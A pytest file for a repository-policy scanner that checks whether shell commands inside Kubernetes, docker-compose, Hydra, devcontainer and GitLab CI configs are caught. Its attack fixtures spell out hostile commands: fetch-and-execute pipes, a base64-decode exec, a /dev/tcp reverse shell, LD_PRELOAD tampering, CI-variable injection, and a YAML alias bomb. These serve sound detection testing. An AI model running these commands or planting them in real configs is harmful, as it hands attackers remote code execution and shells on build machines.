"""Shell commands written in configs are judged by the bash rules (issue #16, class 1).

A red-team pass (session 9) got a Kubernetes Job whose ``args`` pipe a
download into bash, a docker-compose ``command``, and a Hydra submitit
launcher's ``setup`` lines through the default policy with no finding: no
shell rule read YAML or JSON. Each attack here is a change by a second author
through the CLI; the look-alikes are the configs a training repository has.
"""

from __future__ import annotations

import contextlib
import io
import json
from typing import Any

import pytest

from traingate.checks.semgrep.commands import command_text
from traingate.cli import main

from .conftest import POLICY, Repo

BAD = {
    "deploy/job.yaml": (
        "apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: pretrain\nspec:\n  template:\n"
        "    spec:\n      containers:\n        - name: trainer\n"
        "          image: pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime\n"
        '          command: ["bash", "-c"]\n'
        "          args:\n            - |\n"
        "              curl -s http://10.0.0.9/bootstrap | bash\n"
        "              torchrun --nproc_per_node=8 train.py\n"
    ),
    "deploy/compose.yml": (
        "services:\n  trainer:\n    image: trainer:latest\n"
        '    command: sh -c "wget -qO- http://10.0.0.9/x | sh && python train.py"\n'
    ),
    "conf/hydra/launcher/slurm.yaml": (
        "# @package hydra.launcher\nsetup:\n  - module load cuda/12.1\n"
        '  - "echo aW1wb3J0IG9z | base64 -d | python"\n'
    ),
    ".devcontainer/devcontainer.json": (
        '{\n  "image": "mcr.microsoft.com/devcontainers/python:3.11",\n'
        '  "postCreateCommand": "pip install -e . && bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"\n}\n'
    ),
    # Issue #16: JSON with comments in a per-configuration folder (the spec's
    # layout; espnet ships four): its commands were never read as shell.
    ".devcontainer/gpu/devcontainer.json": (
        "// For format details, see https://aka.ms/devcontainer.json.\n{\n"
        '  "image": "mcr.microsoft.com/devcontainers/python:3.11", // base\n'
        '  "postCreateCommand": "curl -fsSL http://203.0.113.5/setup.sh | bash",\n}\n'
    ),
    # Kubernetes lifecycle hook, two levels below `lifecycle`.
    "deploy/pod.yaml": (
        "spec:\n  containers:\n    - name: t\n      lifecycle:\n        postStart:\n"
        "          exec:\n            command: [sh, -c, 'export LD_PRELOAD=/tmp/.l/libx.so']\n"
    ),
    # A launcher config's `shell` key: one of the config check's command keys
    # the first version of this scan did not share.
    "conf/launcher/cluster.yaml": (
        "launcher:\n  partition: gpu\n  shell: wget -qO- http://10.0.0.9/x | sh\n"
    ),
    # Session 27: GitLab CI re-parsing what a merge request's author writes.
    ".gitlab-ci.yml": (
        "smoke:\n  script:\n"
        '    - bash -lc "python -m train.smoke --run-name $CI_COMMIT_REF_NAME"\n'
        "    - |\n"
        "      echo \"$CI_MERGE_REQUEST_DESCRIPTION\" | sed -n 's|^/run ||p' | sh\n"
        "notify:\n  before_script:\n"
        "    - eval \"notify --title '$CI_MERGE_REQUEST_TITLE'\"\n"
    ),
}
# The same Job in UTF-16 (kubectl and PyYAML read it; git calls it binary).
BAD_BYTES = {"deploy/job16.yaml": BAD["deploy/job.yaml"].encode("utf-16")}
EXPECTED = {
    ("deploy/job16.yaml", "remote-shell-fetch-exec", 14),
    ("deploy/job.yaml", "remote-shell-fetch-exec", 14),
    ("deploy/compose.yml", "remote-shell-fetch-exec", 4),
    ("conf/hydra/launcher/slurm.yaml", "obfusc-shell-decode-exec", 4),
    (".devcontainer/devcontainer.json", "egress-shell-reverse-shell", 3),
    ("deploy/pod.yaml", "tamper-shell-preload-env", 7),
    (".devcontainer/gpu/devcontainer.json", "remote-shell-fetch-exec", 4),
    ("conf/launcher/cluster.yaml", "remote-shell-fetch-exec", 3),
    (".gitlab-ci.yml", "exec-shell-ci-var-injection", 3),
    (".gitlab-ci.yml", "exec-shell-ci-var-injection", 5),
    (".gitlab-ci.yml", "exec-shell-ci-var-injection", 8),
}

QUIET = {
    "deploy/ok-job.yaml": (
        "apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      containers:\n"
        "        - name: t\n          command: [torchrun, --nproc_per_node=8, train.py]\n"
        "          args: [--config, configs/7b.yaml]\n"
        "          env:\n            - {name: NCCL_DEBUG, value: WARN}\n"
    ),
    "configs/accelerate.yaml": (
        "compute_environment: LOCAL_MACHINE\ndistributed_type: MULTI_GPU\nnum_processes: 8\n"
    ),
    "recipes/full_finetune.yaml": (
        "model:\n  _component_: torchtune.models.llama3.llama3_8b\n"
        "optimizer:\n  _component_: torch.optim.AdamW\n  lr: 2e-5\n"
        "run:\n  name: sft\n  output_dir: /scratch/out\n"
    ),
    # A command mentions curl, but pipes nothing into a shell.
    "deploy/ok-compose.yml": (
        "services:\n  probe:\n    command: curl -fsS http://localhost:8000/health\n"
    ),
    # Issue #16: espnet's devcontainer configurations: comments, a build script.
    ".devcontainer/ci_cpu/devcontainer.json": (
        "// For format details, see https://aka.ms/devcontainer.json.\n{\n"
        '\t"name": "CI Test (CPU)",\n\t"image": "espnet/dev:ci",\n'
        '\t"initializeCommand": ".devcontainer/ci_cpu/build_image.sh",\n'
        '\t"features": {},\n\t// "forwardPorts": [],\n}\n'
    ),
    # The same variables read as data (GitLab expands them in the shell).
    "ci/.gitlab-ci.yml": (
        "build:\n  script:\n"
        '    - echo "building $CI_COMMIT_REF_NAME for $CI_MERGE_REQUEST_TITLE"\n'
        '    - git checkout "$CI_COMMIT_SHA"\n'
        '    - docker build --tag "$CI_REGISTRY_IMAGE:$CI_COMMIT_REF_SLUG" .\n'
        '    - cd "$CI_PROJECT_DIR" && python -m train --run-name "$CI_COMMIT_BRANCH"\n'
        '    - bash -lc \'python -m train.smoke --run-name "$1"\' _ "$CI_COMMIT_REF_NAME"\n'
    ),
    # Not a config the commands walker can compose: the config check's business.
    "deploy/broken.yaml": "command: [unclosed\n  - curl http://x | sh\n",
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    repo = Repo(tmp_path_factory.mktemp("cmds") / "repo")
    repo.write(".traingate.yaml", POLICY)
    repo.write("README.md", "# project\n")
    repo.commit("base")
    repo.branch("feature")
    for path, text in {**BAD, **QUIET}.items():
        repo.write(path, text)
    for path, data in BAD_BYTES.items():
        repo.write(path, data)
    repo.commit("deploy", who="mallory")
    out = repo.path.parent / "r.json"
    argv = ["check", "--repo", str(repo.path), "--base", "main", "--head", "feature"]
    with contextlib.redirect_stdout(io.StringIO()):
        main([*argv, "--format", "json", "--output", str(out)])
    doc: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    return doc


def _semgrep(report: dict[str, Any], path: str) -> set[tuple[str, str, int]]:
    return {
        (f["path"], f["rule_id"], f["line"])
        for f in report["findings"]
        if f["path"] == path and f["check"] == "semgrep" and f["blocking"]
    }


@pytest.mark.parametrize("path", sorted([*BAD, *BAD_BYTES]))
def test_command_in_config_is_judged(report: dict[str, Any], path: str) -> None:
    assert _semgrep(report, path) == {e for e in EXPECTED if e[0] == path}


@pytest.mark.parametrize("path", sorted(QUIET))
def test_config_look_alike_is_quiet(report: dict[str, Any], path: str) -> None:
    assert _semgrep(report, path) == set()


def test_commands_keep_their_lines() -> None:
    text = BAD["deploy/job.yaml"]
    got = command_text(text)
    assert got is not None
    lines = got.split("\n")
    assert len(lines) == text.count("\n") + 1
    assert lines[10] == "bash -c"  # the flow sequence, joined as argv on its line
    assert lines[13] == "curl -s http://10.0.0.9/bootstrap | bash"  # the block scalar's lines
    assert lines[14] == "torchrun --nproc_per_node=8 train.py"
    assert {i for i, ln in enumerate(lines) if ln} == {10, 13, 14}


def test_no_command_key_means_no_target() -> None:
    assert command_text(QUIET["configs/accelerate.yaml"]) is None
    assert command_text("dry_run: true\nrunner: local\n") is None
    # An alias bomb composes to shared nodes; the walk is bounded.
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    )
    assert command_text(bomb + "run: {script: *i}\n") is not None


def test_devcontainer_with_comments_in_a_folder_parses(report: dict[str, Any]) -> None:
    # Issue #16: .devcontainer/<name>/devcontainer.json is JSON with comments
    # too; it blocked as config-parse-error, a false positive on every espnet
    # configuration.
    path = ".devcontainer/ci_cpu/devcontainer.json"
    assert [f["rule_id"] for f in report["findings"] if f["path"] == path] == []
